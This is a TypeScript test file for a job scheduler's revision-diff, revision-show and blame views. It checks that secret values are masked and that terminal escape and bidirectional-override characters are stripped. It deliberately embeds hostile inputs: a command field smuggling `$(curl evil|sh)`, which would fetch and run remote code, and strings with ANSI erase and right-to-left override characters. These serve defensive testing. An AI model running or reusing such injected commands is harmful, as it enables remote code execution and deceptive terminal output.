import assert from "node:assert/strict";
import { test } from "node:test";
import { planOf } from "../../src/plan/compose.ts";
import { textHunks } from "../../src/plan/text-diff.ts";
import type { BlameData, JobRevisionItem } from "../../src/views/blame.ts";
import { renderBlame } from "../../src/views/blame.ts";
import type { RevisionsDiffData } from "../../src/views/revisions-diff.ts";
import { maskRevisionsDiff, renderRevisionsDiff } from "../../src/views/revisions-diff.ts";
import type { RevisionItem } from "../../src/views/revisions.ts";
import { maskRevision, renderRevision } from "../../src/views/revisions.ts";
import { assertGolden, plain } from "../helpers/golden.ts";
import { desired, NOW_MS, spec } from "../plan/jobs.ts";

const OPTIONS = { color: plain, timezone: "Europe/Paris" };
const HOSTILE = "\u001B[2Kgone \u202Egnp";

function revision(id: number, given: Partial<RevisionItem> = {}): RevisionItem {
  return {
    id,
    applied_at: `2026-11-${10 + id}T09:00:00.000Z`,
    applied_by: "ann@host",
    config_file: "/srv/app/services/scheduler/config.yaml",
    config_hash: "91ac03e",
    git_commit: `${id}d20f7191ac03e5d20f7191ac03e5d20f7191ac0`,
    git_author: "Ann",
    git_subject: "Run the report on Mondays",
    git_dirty: false,
    summary: { create: 0, update: 1, delete: 0, enable: 0, disable: 0, unchanged: 4 },
    settings_changed: false,
    in_force: false,
    ...given,
  };
}

const EDITED = revision(3, { git_dirty: true, applied_by: "bob@host", in_force: true });

function planned(): NonNullable<RevisionsDiffData["plan"]> {
  const before = spec("report", { env: { API_TOKEN: "hunter2" } });
  const after = spec("weekly", {
    env: { API_TOKEN: "hunter3" },
    permissions: { ...before.permissions, net: true },
  });
  const side = (name: string) => ({ name, commit: null, note: null });
  return planOf([{ before, after, code: { before: "aaaaaaaaaa", after: "bbbbbbbbbb" } }], {
    from: side("revision 1"),
    to: side("revision 3"),
    settings: { before: null, after: desired().settings },
    declared: 5,
    nowMs: NOW_MS,
  });
}

test("the difference of two revisions", () => {
  const from = revision(1, { git_subject: HOSTILE });
  const data: RevisionsDiffData = {
    from,
    to: EDITED,
    between: [EDITED, revision(2, { git_commit: null, git_author: null, git_subject: null })],
    plan: planned(),
    text: null,
  };
  const texts = [
    renderRevisionsDiff(data, OPTIONS),
    renderRevisionsDiff({ ...data, from: EDITED, to: from, between: [EDITED] }, OPTIONS),
    renderRevisionsDiff(
      { ...data, to: from, between: [], plan: { ...planned(), changes: [] } },
      OPTIONS,
    ),
  ];
  const text = texts.join("\n----\n");
  assertGolden("revisions-diff.txt", text);
  assert.doesNotMatch(text + JSON.stringify(maskRevisionsDiff(data)), /hunter/);
});

test("without kept changes, the texts are compared, masked", () => {
  const before = "jobs:\n  a:\n    env: {API_TOKEN: hunter2, MODE: x}\n    command: [x]\n";
  const after = "jobs:\n  a:\n    env: {API_TOKEN: hunter3, MODE: y}\n    command: [y] # \u202E\n";
  const from = revision(1);
  const data = { from, to: EDITED, between: [EDITED], plan: null };
  const hunks = textHunks(before, after) ?? [];
  const texts = [
    { same: false, hunks },
    { same: true, hunks: [] },
    { same: false, hunks: null },
  ];
  const text = texts
    .map((compared) => renderRevisionsDiff({ ...data, text: compared }, OPTIONS))
    .join("\n----\n");
  assertGolden("revisions-diff-text.txt", text);
  const json = JSON.stringify(maskRevisionsDiff({ ...data, text: { same: false, hunks } }));
  assert.doesNotMatch(text + json, /hunter/);
});

test("a revision with what it changed", () => {
  const source = `jobs:
  weekly:
    env: {API_TOKEN: hunter2}
    command: x --password="hunter2$(curl evil|sh)" \u202E
    parameters:
      api_key: |
        hunter2
`;
  const masked = maskRevision({ ...revision(2), plan: planned(), source });
  assert.doesNotMatch(JSON.stringify(masked), /hunter/);
  assert.match(masked.source, /API_TOKEN: \*{3}\}\n.*"\*{3}\$\(curl evil\|sh\)" \u202E\n/);
  const texts = [
    renderRevision({ ...revision(2), plan: planned(), source }, OPTIONS),
    renderRevision({ ...EDITED, plan: null, source }, OPTIONS),
    renderRevision({ ...revision(2), plan: { ...planned(), changes: [] }, source }, OPTIONS),
  ];
  const text = texts.join("\n----\n");
  assertGolden("revisions-show.txt", text);
  assert.doesNotMatch(text, /hunter/);
});

const COMMIT = {
  commit: "5d20f7191ac03e5d20f7191ac03e5d20f7191ac0",
  author: "Ann",
  at: "2026-11-20T09:00:00.000Z",
  subject: "Run the report on Mondays",
};

const RUNS: JobRevisionItem = {
  revision: 3,
  action: "update",
  renamed_from: null,
  from: "2026-11-20T09:00:00.000Z",
  until: null,
  applied_by: "bob@host",
  git_commit: COMMIT.commit,
  git_author: "Ann",
  git_subject: COMMIT.subject,
  git_dirty: true,
  runs: 12,
  failed: 2,
  last_status: "failed",
  last_state: "timed_out",
  version: "1.0.1",
};

const BLAME: BlameData = {
  job_name: "weekly",
  place: { file: "services/scheduler/config.yaml", from: 12, to: 20 },
  lines: [
    { commit: null, keys: [{ key: "timeout", from: 14, to: 14 }] },
    {
      commit: COMMIT,
      keys: [
        { key: "schedule", from: 13, to: 13 },
        { key: "parameters", from: 15, to: 20 },
      ],
    },
    {
      commit: { ...COMMIT, author: HOSTILE, subject: HOSTILE, at: "2026-06-20T09:00:00.000Z" },
      keys: [{ key: "weekly", from: 12, to: 12 }],
    },
  ],
  code: [
    { file: "services/scheduler/plugins/weekly.ts", commit: COMMIT, dirty: true },
    { file: "services/scheduler/lib/rows.ts", commit: COMMIT, dirty: false },
    { file: "services/scheduler/lib/new.ts", commit: null, dirty: true },
  ],
  git_note: null,
  revisions: [
    RUNS,
    {
      ...RUNS,
      revision: 2,
      renamed_from: "report",
      from: "2026-11-19T09:00:00.000Z",
      until: RUNS.from,
      git_dirty: false,
      runs: 0,
      failed: 0,
      last_status: null,
      last_state: null,
      version: "1.0.0",
    },
    {
      ...RUNS,
      revision: null,
      action: null,
      from: null,
      until: "2026-11-19T09:00:00.000Z",
      applied_by: null,
      git_commit: null,
      git_author: null,
      git_subject: null,
      git_dirty: null,
      runs: 1,
      failed: 0,
      last_state: "success",
    },
  ],
  database_note: null,
};

test("who changed what of a job, and which commit ran when", () => {
  const nothing = "git tells nothing of services/scheduler/config.yaml: not a git repository";
  const gone: JobRevisionItem = { ...RUNS, action: "delete", git_dirty: false, runs: 0, failed: 0 };
  const texts = [
    BLAME,
    { ...BLAME, lines: [], code: [], git_note: nothing },
    { ...BLAME, place: null, lines: [], code: [], revisions: [gone] },
    { ...BLAME, code: [], revisions: [] },
    { ...BLAME, code: [], revisions: null, database_note: "the database cannot be reached" },
  ].map((data) => renderBlame(data, OPTIONS));
  const text = texts.join("\n----\n");
  assertGolden("blame.txt", text);
  assert.ok(!text.includes("\u001B") && !text.includes("\u202E"));
});
